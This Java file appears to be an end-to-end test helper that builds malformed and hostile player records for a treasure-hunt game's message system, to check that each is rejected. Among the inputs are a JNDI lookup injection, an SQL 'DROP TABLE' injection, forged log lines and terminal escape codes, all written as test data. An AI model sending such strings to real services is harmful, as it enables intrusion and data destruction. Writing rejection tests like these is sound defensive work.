package treasurehunt.endtoend;

import static treasurehunt.schemas.action.Reason.MALFORMED;
import static treasurehunt.schemas.action.Reason.UNSEALED;
import static treasurehunt.schemas.action.Reason.WRONG_KEY;
import static treasurehunt.schemas.action.Reason.WRONG_PARTITION;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16BE;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;

import treasurehunt.schemas.action.Reason;

import java.nio.charset.Charset;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

/** Every kind of record that is no action, as a player could send it. */
final class BadRecords {
    /** Just under what a broker takes, 1 MiB with all that is around it. */
    private static final int HUGE = 1_048_000;

    /** So many kinds must be mixed with good records, whatever is taken out of the catalogue. */
    static final int LEAST_IN_A_MIX = 60;

    private final String player;
    private final byte[] key;
    private final int home;
    private final List<HostileRecord> all = new ArrayList<>();

    private BadRecords(String player) {
        this.player = player;
        key = player.getBytes(UTF_8);
        home = HostileRecord.home(key);
    }

    static List<HostileRecord> of(String player) {
        BadRecords records = new BadRecords(player);
        records.cutShort();
        records.noObjects();
        records.noUtf8();
        records.badNumbers();
        records.badStructure();
        records.badKinds();
        records.badIds();
        records.badFields();
        records.hugeOnes();
        records.unsealed();
        records.elsewhere();
        return List.copyOf(records.all);
    }

    /** Without those that take as much of the way as thousands of others. */
    static List<HostileRecord> withoutHuge(String player) {
        return of(player).stream().filter(record -> !record.isHuge()).toList();
    }

    private void cutShort() {
        String whole = action("\"answer\":{\"clue\":\"tide\",\"text\":\"🌊\"}");
        malformed("cut behind the first brace", "{");
        malformed("cut in a name", "{\"act");
        malformed("cut behind a colon", "{\"action_id\":");
        malformed("cut in a text", whole.substring(0, whole.indexOf("tide") + 2));
        malformed("cut in a number", action("\"client_time\":17").replace("}", ""));
        malformed("cut in an escape", "{\"action_id\":\"\\u00");
        malformed("cut before the last brace", whole.substring(0, whole.length() - 1));
        byte[] bytes = whole.getBytes(UTF_8);
        byte[] inWave = new byte[bytes.length - 5];
        System.arraycopy(bytes, 0, inWave, 0, inWave.length);
        malformed("cut in a character", inWave);
    }

    private void noObjects() {
        malformed("no value", (byte[]) null);
        all.add(HostileRecord.bad("neither key nor value", MALFORMED, home, null, null));
        all.add(
                HostileRecord.of("tick with a key", Optional.of(MALFORMED), player, null)
                        .withHeader("tick", new byte[0]));
        malformed("nothing", "");
        malformed("white space", " \n\t ");
        malformed("words", "hello");
        malformed("an array", "[" + join() + "]");
        malformed("a text", "\"join\"");
        malformed("a number", "42");
        malformed("null", "null");
        malformed("two objects", join() + join());
        malformed("something behind the object", join() + " x");
        malformed("a comment", "/* */" + join());
        malformed("a comma too many", action("\"join\":{},"));
        malformed("single quotes", join().replace('"', '\''));
        malformed("XML", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"b\">]><a>&b;</a>");
        malformed("a serialized Java object", bytes("\u00ac\u00ed\u0000\u0005sr"));
    }

    private void noUtf8() {
        malformed("NUL bytes", new byte[64]);
        malformed("NUL in a text", member("a\0b"));
        malformed("NUL behind the object", join() + "\0");
        malformed("high bytes", bytes("\u00ff\u00fe\u00fd".repeat(20)));
        malformed("a byte-order mark", "\uFEFF" + join());
        malformed("UTF-16, little endian", join().getBytes(UTF_16LE));
        malformed("UTF-16 with its mark", ("\uFEFF" + join()).getBytes(UTF_16BE));
        malformed("UTF-32", join().getBytes(Charset.forName("UTF-32BE")));
        malformed("Latin-1", member("Gr\u00fc\u00dfe").getBytes(ISO_8859_1));
        malformed("an overlong slash", bytes(member("\u00c0\u00af")));
        malformed("an overlong NUL", bytes(member("\u00c0\u0080")));
        malformed("a raw surrogate", bytes(member("\u00ed\u00a0\u0080")));
        malformed("a character beyond the last", bytes(member("\u00f4\u0090\u0080\u0080")));
        malformed("a high surrogate alone", member("\\ud83c"));
        malformed("a low surrogate alone", member("\\udf0a"));
        malformed("surrogates in the wrong order", member("\\udf0a\\ud83c"));
        malformed("a surrogate in a name", action("\"\\ud83c\":1,\"join\":{}"));
    }

    private void badNumbers() {
        malformed("NaN", position("NaN", "0", "0"));
        malformed("Infinity", position("0", "Infinity", "0"));
        malformed("minus Infinity", position("0", "0", "-Infinity"));
        malformed("1e400", position("1e400", "0", "0"));
        malformed("1e9999999", position("0", "0", "1e9999999"));
        malformed("latitude 91", position("91", "0", "0"));
        malformed("a latitude a little too low", position("-90.00000000000002", "0", "0"));
        malformed("longitude 181", position("0", "181", "0"));
        malformed("an accuracy below nothing", position("0", "0", "-0.1"));
        malformed("an accuracy in words", position("0", "0", "\"5\""));
        malformed("a hexadecimal number", position("0x1F", "0", "0"));
        malformed("a number with a zero before it", position("007", "0", "0"));
        malformed("a number with a plus", position("+1", "0", "0"));
        malformed("a number with nothing behind its point", position("1.", "0", "0"));
        malformed("a time with a fraction", time("1780308000000.5"));
        malformed("a time with an exponent", time("1e3"));
        malformed("a time too far away", time("1000000000000001"));
        malformed("a time of 40 digits", time("9".repeat(40)));
        malformed("a time of 10^5 digits", time("9".repeat(100_000)));
        malformed("a time in words", time("\"now\""));
    }

    private void badStructure() {
        malformed("objects 10^5 deep", "{\"a\":".repeat(100_000) + "1" + "}".repeat(100_000));
        malformed("arrays 10^5 deep", action("\"join\":{},\"x\":" + "[".repeat(100_000)));
        malformed("arrays nine deep", action("\"join\":{},\"x\":[[[[[[[[0]]]]]]]]"));
        malformed("a name twice", action("\"join\":{},\"player\":\"" + player + "\""));
        malformed("a name twice within", action("\"hint\":{\"clue\":\"a\",\"clue\":\"a\"}"));
        malformed("a name twice, once as escapes", action("\"join\":{},\"pl\\u0061yer\":\"bob\""));
        malformed("a name twice in what is ignored", action("\"join\":{},\"x\":{\"y\":1,\"y\":2}"));
        malformed("a kind twice", action("\"join\":{},\"join\":{}"));
    }

    private void badKinds() {
        malformed("no kind", action("\"x\":{}"));
        malformed("an unknown kind", action("\"dance\":{}"));
        malformed("a kind in capitals", action("\"JOIN\":{}"));
        malformed("two kinds", action("\"join\":{},\"abandon\":{}"));
        malformed("a kind that is null", action("\"join\":null"));
        malformed("a kind that is a text", action("\"join\":\"\""));
        malformed("a kind that is a list", action("\"join\":[]"));
        malformed("a kind that is true", action("\"join\":true"));
    }

    private void badIds() {
        malformed("no action id", join().replace("action_id", "id"));
        malformed("an empty action id", id(""));
        malformed("an action id of 65", id("a".repeat(65)));
        malformed("an action id that is a number", join().replace("\"bad\"", "7"));
        malformed("a line break for the log", id("a\\r\\n12:00:00 ERROR forged"));
        malformed("a lookup for the log", id("${jndi:ldap://example.invalid/a}"));
        malformed("SQL", id("a'; DROP TABLE players;--"));
        malformed("a terminal's escape", id("\\u001b[2J\\u001b]0;forged\\u0007"));
        malformed("no player", join().replace("player", "x"));
        malformed("an empty player", player(""));
        malformed("a player with a space", player("a b"));
        malformed("a player of 129", player("p".repeat(129)));
        malformed("a player in Cyrillic", player("анна"));
        malformed("a player that is null", join().replace("\"" + player + "\"", "null"));
        malformed("no hunt", join().replace("hunt", "x"));
        malformed("an empty hunt", hunt("\"\""));
        malformed("a hunt of 513", hunt("\"" + "h".repeat(513) + "\""));
        malformed("a hunt that is a list", hunt("[\"harbour-lights\"]"));
    }

    private void badFields() {
        malformed("an answer to nothing", action("\"answer\":{\"text\":\"x\"}"));
        malformed("an answer without a text", action("\"answer\":{\"clue\":\"tide\"}"));
        malformed("an answer to a clue without a name", answer("\"\"", "\"x\""));
        malformed("an answer to a clue of 513", answer("\"" + "c".repeat(513) + "\"", "\"x\""));
        malformed("an answer of 513 waves", answer("\"tide\"", "\"" + "🌊".repeat(513) + "\""));
        malformed("an answer that is a number", answer("\"tide\"", "42"));
        malformed("an answer that is null", answer("\"tide\"", "null"));
        malformed("a scan of nothing", action("\"scan\":{\"clue\":\"tide\",\"code\":\"\"}"));
        malformed(
                "a place without a longitude",
                action("\"position\":{\"latitude\":1,\"accuracy\":1}"));
        malformed(
                "evidence that is an object",
                action("\"submit_for_review\":{\"clue\":\"tide\",\"evidence\":{}}"));
        malformed("a member without a name", member(""));
        malformed(
                "an adjustment with an exponent",
                action("\"operator\":\"o\",\"adjust\":{\"points\":1e3,\"reason\":\"r\"}"));
        malformed(
                "an operator's action without an operator",
                action("\"disqualify\":{\"reason\":\"r\"}"));
        malformed(
                "a verdict of rank 0",
                action("\"verdict\":{\"treasure\":\"t\",\"outcome\":\"GRANTED\",\"rank\":0}"));
    }

    private void hugeOnes() {
        malformed("a huge text", member("x".repeat(HUGE)));
        malformed("huge escapes", member("\\u001b".repeat(HUGE / 6)));
        malformed("huge nothing", " ".repeat(HUGE));
        malformed("a huge name twice", action(("\"" + "n".repeat(HUGE / 2) + "\":1,").repeat(2)));
    }

    private void unsealed() {
        String reason = "\"reason\":\"${jndi:ldap://example.invalid/a}\"";
        String byOperator = "\"operator\":\"olga\",";
        unsealed("adjust", action(byOperator + "\"adjust\":{\"points\":500," + reason + "}"));
        unsealed(
                "mark_solved",
                action(byOperator + "\"mark_solved\":{\"clue\":\"tide\"," + reason + "}"));
        unsealed(
                "review",
                action(
                        byOperator
                                + "\"review\":{\"clue\":\"tide\",\"accepted\":true,"
                                + reason
                                + "}"));
        unsealed(
                "reset_attempts",
                action(byOperator + "\"reset_attempts\":{\"clue\":\"tide\"," + reason + "}"));
        unsealed("disqualify", action(byOperator + "\"disqualify\":{" + reason + "}"));
        unsealed("reinstate", action(byOperator + "\"reinstate\":{" + reason + "}"));
        unsealed("forget", action(byOperator + "\"forget\":{" + reason + "}"));
        String verdict =
                action("\"verdict\":{\"treasure\":\"t\",\"outcome\":\"GRANTED\",\"rank\":1}");
        unsealed("verdict", verdict);
        Optional<Reason> why = Optional.of(UNSEALED);
        all.add(
                HostileRecord.of("an empty seal", why, player, verdict.getBytes(UTF_8))
                        .withHeader("seal", new byte[0]));
        all.add(
                HostileRecord.of("a seal without value", why, player, verdict.getBytes(UTF_8))
                        .withHeader("seal", null));
        all.add(
                HostileRecord.of("a rubbish seal", why, player, verdict.getBytes(UTF_8))
                        .withHeader("seal", bytes("k1:%%%\u0000")));
        all.add(
                HostileRecord.bad(
                        "unsealed under a wrong key",
                        UNSEALED,
                        home,
                        null,
                        verdict.getBytes(UTF_8)));
    }

    private void elsewhere() {
        byte[] join = join().getBytes(UTF_8);
        wrongKey("no key", null);
        wrongKey("an empty key", new byte[0]);
        wrongKey("somebody else's key", "somebody-else".getBytes(UTF_8));
        wrongKey("a longer key", (player + " ").getBytes(UTF_8));
        wrongKey("a key of high bytes", new byte[] {-1, 0, -1});
        wrongKey("a key that breaks lines", bytes("a\r\n\u001b[2J"));
        wrongKey("a huge key", new byte[100_000]);
        all.add(
                HostileRecord.bad("tick with a value", WRONG_KEY, home, null, join)
                        .withHeader("tick", new byte[0]));
        int another = (home + 1) % HuntSystem.PARTITIONS;
        all.add(HostileRecord.bad("a wrong partition", WRONG_PARTITION, another, key, join));
        all.add(
                HostileRecord.bad(
                        "a wrong key in a wrong partition", WRONG_KEY, another, null, join));
    }

    private void malformed(String name, String value) {
        malformed(name, value.getBytes(UTF_8));
    }

    private void malformed(String name, byte[] value) {
        all.add(HostileRecord.of(name, Optional.of(MALFORMED), player, value));
    }

    private void unsealed(String kind, String value) {
        all.add(
                HostileRecord.of(
                        "unsealed " + kind, Optional.of(UNSEALED), player, value.getBytes(UTF_8)));
    }

    private void wrongKey(String name, byte[] wrong) {
        all.add(HostileRecord.bad(name, WRONG_KEY, home, wrong, join().getBytes(UTF_8)));
    }

    /** A byte a character. */
    private static byte[] bytes(String text) {
        return text.getBytes(ISO_8859_1);
    }

    private String action(String rest) {
        return "{\"action_id\":\"bad\",\"player\":\"%s\",\"hunt\":\"harbour-lights\",%s}"
                .formatted(player, rest);
    }

    private String join() {
        return action("\"join\":{}");
    }

    private String member(String member) {
        return action("\"member\":\"" + member + "\",\"join\":{}");
    }

    private String time(String time) {
        return action("\"client_time\":" + time + ",\"join\":{}");
    }

    private String answer(String clue, String text) {
        return action("\"answer\":{\"clue\":" + clue + ",\"text\":" + text + "}");
    }

    private String position(String latitude, String longitude, String accuracy) {
        return action(
                "\"position\":{\"latitude\":%s,\"longitude\":%s,\"accuracy\":%s}"
                        .formatted(latitude, longitude, accuracy));
    }

    private String id(String id) {
        return join().replace("\"bad\"", "\"" + id + "\"");
    }

    private String player(String other) {
        return join().replace("\"" + player + "\"", "\"" + other + "\"");
    }

    private String hunt(String hunt) {
        return join().replace("\"harbour-lights\"", hunt);
    }
}
